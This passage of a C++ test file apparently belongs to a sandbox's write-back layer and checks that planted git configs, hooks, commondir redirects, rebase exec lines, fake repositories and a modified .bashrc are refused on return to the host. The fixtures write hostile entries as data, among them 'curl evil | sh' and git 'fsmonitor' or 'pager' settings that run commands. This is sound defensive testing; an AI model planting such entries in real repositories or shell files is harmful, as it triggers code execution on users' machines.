  put(view(".git/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
  put(view(".git/hooks/pre-commit"), "#!/bin/sh\ntouch /tmp/pwned\n");
  ASSERT_EQ(::unlink(view(".git/info/exclude").c_str()), 0);
  put(view(".bashrc"), "curl evil | sh\n");
  mkdir_p(view("sub/.claude"));
  put(view("sub/.claude/settings.local.json"), "{\"hooks\": {}}\n");
  put(view("sub/.git"), "gitdir: ../elsewhere\n");
  // ... and does ordinary work beside it, which lands.
  put(view(".git/objects/ab/cdef"), "object\n");
  put(view("src.txt"), "v2\n");

  auto rep = back(copy.manifest, all_of_it());
  Strings refused;
  for (const auto& r : rep.refused) {
    refused.push_back(r.path);
    // .git/info/exclude was deleted: the rest of .git is kept whole (no deletion beneath it lands).
    EXPECT_TRUE(r.reason.starts_with(r.path == ".git" ? "kept whole" : "protected path")) << r.path << ": " << r.reason;
  }
  std::sort(refused.begin(), refused.end());
  EXPECT_EQ(refused, (Strings{".bashrc", ".git", ".git/config", ".git/hooks/pre-commit", ".git/info/exclude",
                              "sub/.claude/settings.local.json", "sub/.git"}));
  EXPECT_EQ(content_of(ws_ / ".git/config"), "[core]\n");
  EXPECT_EQ(content_of(ws_ / ".bashrc"), "# rc\n");
  EXPECT_FALSE(exists(ws_ / ".git/hooks/pre-commit"));
  EXPECT_EQ(content_of(ws_ / ".git/info/exclude"), "# nothing\n");
  EXPECT_FALSE(exists(ws_ / "sub/.claude/settings.local.json"));
  EXPECT_FALSE(exists(ws_ / "sub/.git"));
  EXPECT_FALSE(exists(ws_ / ".git/objects/ab/cdef")) << "a git directory with a refusal lands nothing";
  EXPECT_EQ(content_of(ws_ / "src.txt"), "v2\n");
}

TEST_F(WriteBack, WhatRedirectsGitIsRefusedWhereverItIsPlanted) {
  mkdir_p(ws_ / ".git/objects");
  mkdir_p(ws_ / ".git/refs/heads");
  put(ws_ / ".git/HEAD", "ref: refs/heads/main\n");
  put(ws_ / ".git/config", "[core]\n");
  auto copy = make_view(all_of_it());
  // commondir sends git to another directory's config and hooks; a rebase's todo list runs commands;
  // a bare repository planted in a subdirectory is a git directory whatever its name.
  put(view(".git/commondir"), "../evil\n");
  mkdir_p(view(".git/rebase-merge"));
  put(view(".git/rebase-merge/git-rebase-todo"), "exec touch /tmp/pwned\n");
  mkdir_p(view("bare/objects"));
  mkdir_p(view("bare/refs"));
  put(view("bare/HEAD"), "ref: refs/heads/main\n");
  put(view("bare/config"), "[core]\n\tpager = touch /tmp/pwned\n");
  put(view("bare/objects/ab"), "object\n");
  put(view(".git/objects/cd"), "object\n");
  auto rep = back(copy.manifest, all_of_it());
  Strings refused;
  for (const auto& r : rep.refused) refused.push_back(r.path);
  std::sort(refused.begin(), refused.end());
  EXPECT_EQ(refused, (Strings{".git", ".git/commondir", ".git/rebase-merge", "bare"}))
      << rep.to_json().dump();
  EXPECT_FALSE(exists(ws_ / ".git/commondir"));
  EXPECT_FALSE(exists(ws_ / "bare/config"));
  EXPECT_FALSE(exists(ws_ / "bare/objects/ab")) << "a git directory with a refusal lands nothing";
  EXPECT_FALSE(exists(ws_ / ".git/objects/cd"));
}

// git's is_git_directory takes a HEAD with a commondir (or refs/) for a repository, its config
// read from where commondir points: such a directory is judged as a git directory too.
TEST_F(WriteBack, ARepositoryDisguisedWithACommondirIsAGitDirectory) {
  put(ws_ / "keep.txt", "k\n");
  auto copy = make_view(all_of_it());
  mkdir_p(view("src/refs"));
  mkdir_p(view(".cache/objects"));
  mkdir_p(view(".cache/refs"));
  put(view("src/HEAD"), "ref: refs/heads/main\n");
  put(view("src/commondir"), "../.cache\n");
  put(view(".cache/config"), "[core]\n\tpager = touch /tmp/pwned\n");
  auto rep = back(copy.manifest, all_of_it());
  EXPECT_FALSE(exists(ws_ / "src/commondir")) << rep.to_json().dump();
  bool named = false;
  for (const auto& r : rep.refused) named = named || r.path == "src";  // a new git directory, whole
  EXPECT_TRUE(named) << rep.to_json().dump();
}

// The same bytes and mode written again (git rewrites .git/config on branch -D) are no change.
TEST_F(WriteBack, AProtectedFileRewrittenAsItWasIsNoChange) {
  git_layout(ws_);
  auto copy = make_view(all_of_it());
  ASSERT_EQ(::chmod(view(".git/config").c_str(), 0644), 0);
  ASSERT_EQ(::unlink(view(".git/config").c_str()), 0);
  put(view(".git/config"), "[core]\n", 0444);  // git keeps the mode the first wall left
  put(view(".git/objects/ab/new"), "new object\n");
  auto rep = back(copy.manifest, all_of_it());
  EXPECT_TRUE(rep.refused.empty()) << rep.to_json().dump();
  EXPECT_EQ(content_of(ws_ / ".git/objects/ab/new"), "new object\n");
}

// Objects and packs are named by their contents: one rewritten inside is refused and the git
// directory lands nothing; files git does rewrite under objects/ (info/packs) land.
TEST_F(WriteBack, AnExistingGitObjectRewrittenIsRefused) {
  git_layout(ws_);
  mkdir_p(ws_ / ".git/objects/info");
  put(ws_ / ".git/objects/info/packs", "P pack-1.pack\n");
  auto copy = make_view(all_of_it());
  put(view(".git/objects/info/packs"), "P pack-2.pack\n");
  auto ok = back(copy.manifest, all_of_it());
  EXPECT_TRUE(ok.refused.empty()) << ok.to_json().dump();
  EXPECT_EQ(content_of(ws_ / ".git/objects/info/packs"), "P pack-2.pack\n");

  ASSERT_TRUE(remove_tree(view_).has_value());
  ASSERT_EQ(::mkdir(view_.c_str(), 0700), 0);
  auto again = make_view(all_of_it());
  ASSERT_EQ(::chmod(view(".git/objects/ab/cdef").c_str(), 0644), 0);
  put(view(".git/objects/ab/cdef"), "junk\n");
  put(view(".git/refs/heads/main"), "fedcba\n");
  auto rep = back(again.manifest, all_of_it());
  EXPECT_EQ(content_of(ws_ / ".git/objects/ab/cdef"), "object\n") << rep.to_json().dump();
  EXPECT_EQ(content_of(ws_ / ".git/refs/heads/main"), "abcdef\n") << "the git directory lands nothing";
  Strings refused;
  for (const auto& r : rep.refused) refused.push_back(r.path);
  std::sort(refused.begin(), refused.end());
  EXPECT_EQ(refused, (Strings{".git", ".git/objects/ab/cdef"})) << rep.to_json().dump();
}

// `rm -rf .git; git init` inside: a new config (refused) holds the whole git directory, so the
// new HEAD does not land and the index is not deleted.
TEST_F(WriteBack, AGitDirectoryMadeAgainLandsNothing) {
  git_layout(ws_);
  put(ws_ / ".git/index", "index\n");
  auto copy = make_view(all_of_it());
  ASSERT_EQ(::chmod(view(".git/hooks").c_str(), 0700), 0);
  ASSERT_EQ(::chmod(view(".git/config").c_str(), 0600), 0);
  ASSERT_TRUE(remove_tree(view(".git")).has_value());
  mkdir_p(view(".git/objects"));
  mkdir_p(view(".git/refs"));
  put(view(".git/HEAD"), "ref: refs/heads/master\n");
  put(view(".git/config"), "[core]\n\tbare = false\n");
  auto rep = back(copy.manifest, all_of_it());
  EXPECT_EQ(content_of(ws_ / ".git/HEAD"), "ref: refs/heads/main\n") << rep.to_json().dump();
  EXPECT_EQ(content_of(ws_ / ".git/index"), "index\n");
  for (const auto& f : git_files()) EXPECT_TRUE(exists(ws_ / f)) << f;
}

// What the first wall leaves of `rm -rf .git` on a tier that binds config and hooks read-only:
// HEAD and refs/ gone, config untouched. A git directory cannot be without them: refused, held.
TEST_F(WriteBack, AGitDirectoryLosingItsHeadOrRefsLandsNothing) {
  git_layout(ws_);
  auto copy = make_view(all_of_it());
  ASSERT_EQ(::unlink(view(".git/HEAD").c_str()), 0);
  ASSERT_TRUE(remove_tree(view(".git/refs")).has_value());
  ASSERT_EQ(::unlink(view(".git/MERGE_HEAD").c_str()), 0);
  auto rep = back(copy.manifest, all_of_it());
  for (const auto& f : git_files()) EXPECT_TRUE(exists(ws_ / f)) << f << " was deleted: " << rep.to_json().dump();
  Strings refused;
  for (const auto& r : rep.refused) refused.push_back(r.path);
  std::sort(refused.begin(), refused.end());
  EXPECT_EQ(refused, (Strings{".git", ".git/HEAD", ".git/refs"})) << rep.to_json().dump();
}

// The workspace itself made to look like a repository (.git's HEAD broken, a HEAD, objects/,
// refs/ and a config at the root): git on the host would take the root for the repository and
// run its config. Nothing lands; a malformed .git/HEAD is refused too.
TEST_F(WriteBack, ARepositoryPlantedAtTheRootOrABrokenHeadLandsNothing) {
  git_layout(ws_);
  put(ws_ / "app.py", "v1\n");
  auto copy = make_view(all_of_it());
  put(view(".git/HEAD"), "garbage\n");
  put(view("HEAD"), "ref: refs/heads/main\n");
  mkdir_p(view("objects"));
  mkdir_p(view("refs/heads"));
  put(view("config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
  put(view("app.py"), "v2\n");
  auto rep = back(copy.manifest, all_of_it());
  EXPECT_FALSE(exists(ws_ / "config")) << rep.to_json().dump();
  EXPECT_FALSE(exists(ws_ / "HEAD"));
  EXPECT_EQ(content_of(ws_ / ".git/HEAD"), "ref: refs/heads/main\n");
  Strings refused;
  for (const auto& r : rep.refused) refused.push_back(r.path);
  EXPECT_NE(std::find(refused.begin(), refused.end(), "."), refused.end()) << rep.to_json().dump();
  EXPECT_FALSE(exists(ws_ / "objects"));
  EXPECT_EQ(content_of(ws_ / "app.py"), "v1\n") << "a workspace made a repository lands nothing";
}

TEST_F(WriteBack, AMalformedHeadIsRefused) {
  git_layout(ws_);
  auto copy = make_view(all_of_it());
  put(view(".git/HEAD"), "garbage\n");
  auto rep = back(copy.manifest, all_of_it());
  EXPECT_EQ(content_of(ws_ / ".git/HEAD"), "ref: refs/heads/main\n");
  Strings refused;
  for (const auto& r : rep.refused) refused.push_back(r.path);
  std::sort(refused.begin(), refused.end());
  EXPECT_EQ(refused, (Strings{".git", ".git/HEAD"})) << rep.to_json().dump();
}

// git takes a HEAD beside any accessible objects or refs for a repository (an executable file
// named objects will do), found from any directory beneath it. A repository the workspace did not
// hold is never made, in one run or piece by piece over several.
TEST_F(WriteBack, NoRepositoryIsPlantedInOneRunOrOverSeveral) {
  put(ws_ / "keep.txt", "k\n");
  auto copy = make_view(all_of_it());
  mkdir_p(view("sub/refs/heads"));
  put(view("sub/HEAD"), "ref: refs/heads/main\n");
  put(view("sub/objects"), "#!/bin/sh\n", 0755);
  put(view("sub/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
  auto rep = back(copy.manifest, all_of_it());
  EXPECT_FALSE(exists(ws_ / "sub/config")) << rep.to_json().dump();
  EXPECT_FALSE(exists(ws_ / "sub/HEAD"));

  // Piece by piece: run 1 lands a HEAD and a config (no repository yet); run 2 adds refs/.
  ASSERT_TRUE(remove_tree(view_).has_value());
  ASSERT_EQ(::mkdir(view_.c_str(), 0700), 0);
  auto run1 = make_view(all_of_it());
  mkdir_p(view("sub2"));
  put(view("sub2/HEAD"), "ref: refs/heads/main\n");
  put(view("sub2/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
  auto first = back(run1.manifest, all_of_it());
  EXPECT_TRUE(first.refused.empty()) << "not a repository yet: " << first.to_json().dump();
  ASSERT_TRUE(remove_tree(view_).has_value());
  ASSERT_EQ(::mkdir(view_.c_str(), 0700), 0);
  auto run2 = make_view(all_of_it());
  mkdir_p(view("sub2/refs/heads"));
  auto second = back(run2.manifest, all_of_it());
  EXPECT_FALSE(exists(ws_ / "sub2/refs")) << second.to_json().dump();
  ASSERT_EQ(second.refused.size(), 1u) << second.to_json().dump();
  EXPECT_EQ(second.refused[0].path, "sub2");
}

// A HEAD git writes (a branch, a detached id) lands.
TEST_F(WriteBack, AWellFormedHeadLands) {
  git_layout(ws_);
  auto copy = make_view(all_of_it());
  put(view(".git/HEAD"), "0123456789abcdef0123456789abcdef01234567\n");
  auto rep = back(copy.manifest, all_of_it());
  EXPECT_TRUE(rep.refused.empty()) << rep.to_json().dump();
  EXPECT_EQ(content_of(ws_ / ".git/HEAD"), "0123456789abcdef0123456789abcdef01234567\n");
}

// A directory replaced by a file: the file cannot land over the directory (a conflict), and what
// the directory held in the workspace stays.
TEST_F(WriteBack, ADirectoryReplacedByAFileKeepsItsWorkspaceContents) {
  mkdir_p(ws_ / "src");
  put(ws_ / "src/a.c", "int a;\n");
  auto copy = make_view(all_of_it());
  ASSERT_TRUE(remove_tree(view("src")).has_value());
  put(view("src"), "x\n");
  auto rep = back(copy.manifest, all_of_it());
  EXPECT_EQ(content_of(ws_ / "src/a.c"), "int a;\n") << rep.to_json().dump();
  EXPECT_TRUE(rep.deleted.empty()) << rep.to_json().dump();
}

// A git directory renamed away in the view (the first wall's read-only binds do not stop a rename)
// must not cost the workspace its history: config cannot be deleted, so nothing beneath .git is.
TEST_F(WriteBack, AGitDirectoryRenamedAwayKeepsEverythingInTheWorkspace) {
  git_layout(ws_);
  auto copy = make_view(all_of_it());
  ASSERT_EQ(::chmod(view(".git/hooks").c_str(), 0700), 0);
  ASSERT_EQ(::rename(view(".git").c_str(), view("moved").c_str()), 0);
  auto rep = back(copy.manifest, all_of_it());
  for (const auto& f : git_files()) EXPECT_TRUE(exists(ws_ / f)) << f << " was deleted: " << rep.to_json().dump();
  EXPECT_EQ(content_of(ws_ / ".git/objects/ab/cdef"), "object\n");
  EXPECT_TRUE(rep.deleted.empty()) << rep.to_json().dump();
  bool kept_whole = false;
  for (const auto& r : rep.refused) kept_whole = kept_whole || (r.path == ".git" && r.reason.starts_with("kept whole"));
  EXPECT_TRUE(kept_whole) << rep.to_json().dump();
}

TEST_F(WriteBack, AGitDirectoryDeletedAndMadeAgainKeepsItsHistory) {
  git_layout(ws_);
  auto copy = make_view(all_of_it());
  ASSERT_EQ(::chmod(view(".git/hooks").c_str(), 0700), 0);
  ASSERT_TRUE(remove_tree(view(".git")).has_value());
  mkdir_p(view(".git"));
  auto rep = back(copy.manifest, all_of_it());
  for (const auto& f : git_files()) EXPECT_TRUE(exists(ws_ / f)) << f << " was deleted: " << rep.to_json().dump();
  EXPECT_TRUE(rep.deleted.empty()) << rep.to_json().dump();
}

TEST_F(WriteBack, ADirectoryMovedWithAProtectedPathInsideStaysWhole) {
  mkdir_p(ws_ / "sub/.vscode");
  put(ws_ / "sub/.vscode/tasks.json", "{}\n");
  put(ws_ / "sub/code.c", "int x;\n");
  put(ws_ / "other.c", "int y;\n");
  auto copy = make_view(all_of_it());
  ASSERT_EQ(::chmod(view("sub/.vscode").c_str(), 0700), 0);
  ASSERT_EQ(::rename(view("sub").c_str(), view("moved").c_str()), 0);
  ASSERT_EQ(::unlink(view("other.c").c_str()), 0);
  auto rep = back(copy.manifest, all_of_it());
  EXPECT_EQ(content_of(ws_ / "sub/code.c"), "int x;\n") << rep.to_json().dump();
  EXPECT_EQ(content_of(ws_ / "sub/.vscode/tasks.json"), "{}\n");
  EXPECT_EQ(content_of(ws_ / "moved/code.c"), "int x;\n") << "the moved copy lands";
  EXPECT_FALSE(exists(ws_ / "moved/.vscode/tasks.json"));
  EXPECT_EQ(rep.deleted, (Strings{"other.c"})) << "a deletion elsewhere still lands";
}

// git gc prunes loose objects, git branch -D deletes a ref, git merge --abort its state: the
// objects stay on the host (no commit it had is lost), the rest goes; none of it is a refusal.
TEST_F(WriteBack, GitObjectsAreNeverDeletedAndRefsAndStateAre) {
  git_layout(ws_);
  auto copy = make_view(all_of_it());
  ASSERT_EQ(::unlink(view(".git/objects/ab/cdef").c_str()), 0);
  ASSERT_EQ(::rmdir(view(".git/objects/ab").c_str()), 0);
  ASSERT_EQ(::unlink(view(".git/refs/heads/main").c_str()), 0);
  ASSERT_EQ(::unlink(view(".git/MERGE_HEAD").c_str()), 0);
  auto rep = back(copy.manifest, all_of_it());
  EXPECT_EQ(rep.deleted, (Strings{".git/refs/heads/main", ".git/MERGE_HEAD"})) << rep.to_json().dump();
  EXPECT_EQ(rep.kept, (Strings{".git/objects/ab", ".git/objects/ab/cdef"})) << rep.to_json().dump();
  EXPECT_TRUE(rep.refused.empty()) << rep.to_json().dump();
  EXPECT_EQ(content_of(ws_ / ".git/objects/ab/cdef"), "object\n");
  EXPECT_FALSE(exists(ws_ / ".git/refs/heads/main"));
  EXPECT_FALSE(exists(ws_ / ".git/MERGE_HEAD"));
}

TEST_F(WriteBack, HardLinkedGitObjectsOfALocalCloneAreCopied) {
  mkdir_p(ws_ / ".git/objects/pack");
  put(outside_ / "pack-1.pack", "pack bytes\n");
  ASSERT_EQ(::link((outside_ / "pack-1.pack").c_str(), (ws_ / ".git/objects/pack/pack-1.pack").c_str()), 0);
  auto copy = make_view(all_of_it());
  EXPECT_EQ(content_of(view(".git/objects/pack/pack-1.pack")), "pack bytes\n");
  EXPECT_EQ(lstat_of(view(".git/objects/pack/pack-1.pack")).st_nlink, 1u) << "a copy, not the inode";
  EXPECT_TRUE(copy.skipped.empty());
}

TEST_F(WriteBack, TheRepositorysOwnHooksPathAndIncludesAreProtected) {
  mkdir_p(ws_ / ".git");
  put(ws_ / ".git/config", "[core]\n\thooksPath = .husky\n[include]\n\tpath = ../shared.gitconfig\n"
                            "[includeIf \"gitdir:~/x/\"]\n\tpath = /etc/elsewhere\n");
  plan::ExecutionPlan p;
  protect_git_config_targets(ws_.path(), p);
  Strings patterns;
  for (const auto& e : p.protected_paths) patterns.push_back(e.pattern);
  EXPECT_EQ(patterns, (Strings{".husky", "shared.gitconfig"})) << "a path outside the workspace is not ours";
  EXPECT_TRUE(policy::protected_by(p.protected_paths, ".husky/pre-commit", false).has_value());
}

}  // namespace
}  // namespace airlock::exec
